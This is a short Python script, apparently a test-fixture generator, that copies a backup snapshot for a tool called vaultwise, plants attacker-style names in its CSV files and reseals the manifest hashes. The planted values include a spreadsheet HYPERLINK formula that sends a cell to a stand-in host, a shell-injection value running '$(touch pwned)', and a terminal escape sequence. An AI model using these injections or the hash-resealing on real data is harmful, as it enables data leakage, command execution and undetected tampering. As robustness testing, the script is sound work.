# hostile_names.py: copies a snapshot directory and gives it the names an
# attacker would choose (a formula, a leading @ and -, shell syntax, an
# ANSI escape, bytes that are not UTF-8), then reseals the
# manifest's SHA-256 so that vaultwise reads it as a good snapshot.
# Usage: python3 hostile_names.py SRC DST [EMPTY]
# EMPTY: that many vaults that protect nothing, added to vaults.csv
import csv
import hashlib
import json
import os
import shutil
import sys

FORMULA = '=HYPERLINK("http://x/?"&A1,"x")'


def set_field(snap, name, key, key_value, column, value):
    path = os.path.join(snap, name)
    with open(path, newline='') as f:
        rows = list(csv.reader(f))
    head = rows[0]
    for row in rows[1:]:
        if row[head.index(key)] == key_value:
            row[head.index(column)] = value
    with open(path, 'w', newline='') as f:
        csv.writer(f, lineterminator='\r\n').writerows(rows)


def set_bytes(snap, name, old, new):
    path = os.path.join(snap, name)
    with open(path, 'rb') as f:
        data = f.read()
    assert old in data, old
    with open(path, 'wb') as f:
        f.write(data.replace(old, new, 1))


def add_empty_vaults(snap, n):
    path = os.path.join(snap, 'vaults.csv')
    with open(path, newline='') as f:
        rows = list(csv.reader(f))
    head, model = rows[0], rows[1]
    for i in range(n):
        row = list(model)
        row[head.index('vault_id')] = 'v-empty%06d' % i
        row[head.index('vault_name')] = 'empty-%06d' % i
        rows.append(row)
    with open(path, 'w', newline='') as f:
        csv.writer(f, lineterminator='\r\n').writerows(rows)


def reseal(snap):
    path = os.path.join(snap, 'manifest.json')
    with open(path) as f:
        manifest = json.load(f)
    for name, entry in manifest['files'].items():
        with open(os.path.join(snap, name), 'rb') as f:
            data = f.read()
        entry['sha256'] = hashlib.sha256(data).hexdigest()
        entry['rows'] = data.count(b'\n') - 1
        manifest['counts'][name[:-4]] = entry['rows']
    with open(path, 'w') as f:
        json.dump(manifest, f, indent=2)


def main():
    src, dst = sys.argv[1], sys.argv[2]
    shutil.copytree(src, dst)
    set_field(dst, 'items.csv', 'item_id', 'i-29087fb6ebce', 'item_name',
              FORMULA)
    set_field(dst, 'policies.csv', 'policy_id', 'p-2113ca6022f4',
              'policy_name', '@SUM(1)')
    set_field(dst, 'vaults.csv', 'vault_name', 'vault-dev', 'vault_name',
              '-dev')
    set_field(dst, 'vaults.csv', 'vault_name', '-dev', 'resource_group',
              "rg-dev';$(touch pwned)")
    # an escape that retitles the terminal
    set_bytes(dst, 'vaults.csv', b',vault-prod,',
              b',"vault-\x1b]0;pwned\x07prod",')
    # Latin-1, not UTF-8: "café"
    set_bytes(dst, 'policies.csv', b',vm-hourly,', b',vm-hourly-caf\xe9,')
    if len(sys.argv) > 3:
        add_empty_vaults(dst, int(sys.argv[3]))
    reseal(dst)


main()
